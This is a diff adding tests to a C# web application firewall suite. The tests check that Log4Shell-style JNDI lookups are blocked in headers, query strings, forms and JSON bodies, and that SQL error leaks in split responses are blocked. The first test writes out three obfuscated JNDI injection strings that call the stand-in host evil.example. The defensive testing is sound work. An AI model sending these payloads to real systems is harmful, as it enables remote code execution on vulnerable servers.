@@ -64,6 +64,26 @@ public sealed class WafBlockSpecs(WafFixture fixture) : IClassFixture<WafFixture
         Assert.DoesNotContain("odSecurity", answer);
     }
 
+    [Theory]
+    [InlineData("${jndi:ldap://evil.example/a}")]
+    [InlineData("${${lower:j}ndi:rmi://evil.example/a}")]
+    [InlineData("${${env:NOTHING:-j}n${::-d}i:ldap://evil.example/a}")]
+    public void Logger_lookup_is_blocked_wherever_it_stands(string lookup)
+    {
+        foreach (var request in new[]
+        {
+            Http.Get("/", $"X-Api-Version: {lookup}\r\n"),
+            Http.Get("/?q=" + Uri.EscapeDataString(lookup)),
+            Http.Form("q=" + Uri.EscapeDataString(lookup)),
+            Http.Json($"{{\"q\":\"{lookup}\"}}"),
+        })
+        {
+            using var conversation = new Conversation(fixture.System);
+            Assert.Equal(VerdictKind.Block, conversation.Client(request));
+            Assert.Equal("attack-rce", conversation.Threat.Category);
+        }
+    }
+
     [Fact]
     public void Attack_after_clean_exchanges_is_answered()
     {
@@ -129,6 +149,25 @@ public sealed class WafBlockSpecs(WafFixture fixture) : IClassFixture<WafFixture
         Assert.InRange(conversation.Threat.SignatureId, 950000, 958999);
         Assert.Equal("/item", conversation.Threat.Http!.Url);
         Assert.Equal(200, conversation.Threat.Http.Status);
+    }
+
+    [Theory]
+    [InlineData(true)]
+    [InlineData(false)]
+    public void Leak_in_a_response_cut_at_every_byte_never_reaches_the_client(bool chunked)
+    {
+        const string Leak = "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version";
+        var response = chunked
+            ? $"HTTP/1.1 500 Oops\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked\r\n\r\n{Leak.Length:x}\r\n{Leak}\r\n0\r\n\r\n"
+            : Http.Ok(Leak);
+        for (var cut = 0; cut <= response.Length; cut++)
+        {
+            using var conversation = new Conversation(fixture.System);
+            conversation.Client(Http.Get("/"));
+            conversation.Server(response[..cut]);
+            Assert.Equal(VerdictKind.Block, conversation.Server(response[cut..]));
+            Assert.DoesNotContain("SQL", conversation.ReleasedToClient);
+        }
     }
 
     [Fact]
